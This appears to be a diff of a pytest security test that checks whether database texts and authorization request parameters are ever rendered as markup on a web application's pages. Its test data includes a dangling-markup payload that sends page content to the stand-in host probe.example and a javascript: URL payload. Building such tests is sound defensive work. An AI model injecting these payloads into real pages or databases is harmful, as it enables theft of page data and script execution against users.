@@ -1,8 +1,8 @@
-"""Texts from outside never become an element or an attribute of a page.
+"""Texts from outside never become a page's element or attribute.
 
-Every text of the database contains markup, and every page is opened. This is more than an attacker
-can do, because the API refuses most of these texts. Then every declared parameter of every page
-outside the console contains markup. `form-action` does not limit all these pages (decision 360).
+Every text in the database contains markup, and every page is opened. This is more than an attacker can do, because the
+API refuses most such texts. Then every declared parameter for every page outside the console contains markup.
+`form-action` does not limit all these pages (decision 360).
 """
 
 import json
@@ -35,7 +35,7 @@ MARKUP: Final = (
     "<button formaction=//probe.example><input name=probe value='"  # the last attribute takes in what follows
 )
 SCRIPT_URL: Final = "javascript:probe()//"
-# What an authorization request shows on pages, or sends to the application. The answer of `form_post` is a page.
+# What an authorization request shows on pages, or sends to the application. With `form_post`, the answer is a page.
 REQUESTED: Final = ("login_hint", "state", "nonce", "scope", "prompt", "ui_locales", "error_description")
 # Texts that the pages' addresses and the database's own rules need as they are.
 KEPT: Final = frozenset({"organizations.slug", "services.slug", "tiers.id", "domains.domain"})
@@ -72,7 +72,7 @@ async def spoil(pool: Pool, slug: str, text: str) -> list[str]:
         update = f"update {table} set {column} = {new} where {column}::text ilike %s returning 1"  # noqa: S608
         try:
             rows = await run_sql(pool, update, *values, f"%{slug}%")
-        except psycopg.Error:  # a rule of the database
+        except psycopg.Error:  # the database has a rule for it
             continue
         if rows:
             changed.append(f"{table}.{column}")
@@ -188,7 +188,7 @@ async def page_of_flow(app: QuartTrio, answer: Answer, caller: Caller) -> Answer
 
 @pytest.mark.parametrize("text", [MARKUP, SCRIPT_URL], ids=["markup", "script-url"])
 async def test_no_value_of_a_request_becomes_markup(app: QuartTrio, pool: Pool, world: World, text: str) -> None:
-    """The names and the branding of the database contain the same text."""
+    """The names and the branding in the database contain the same text."""
     slug, wrong, seen = world.home.organization.slug, [], set()
     await run_sql(pool, "update users set name = %s", f"A Name of {slug}")
     await spoil(pool, slug, text)
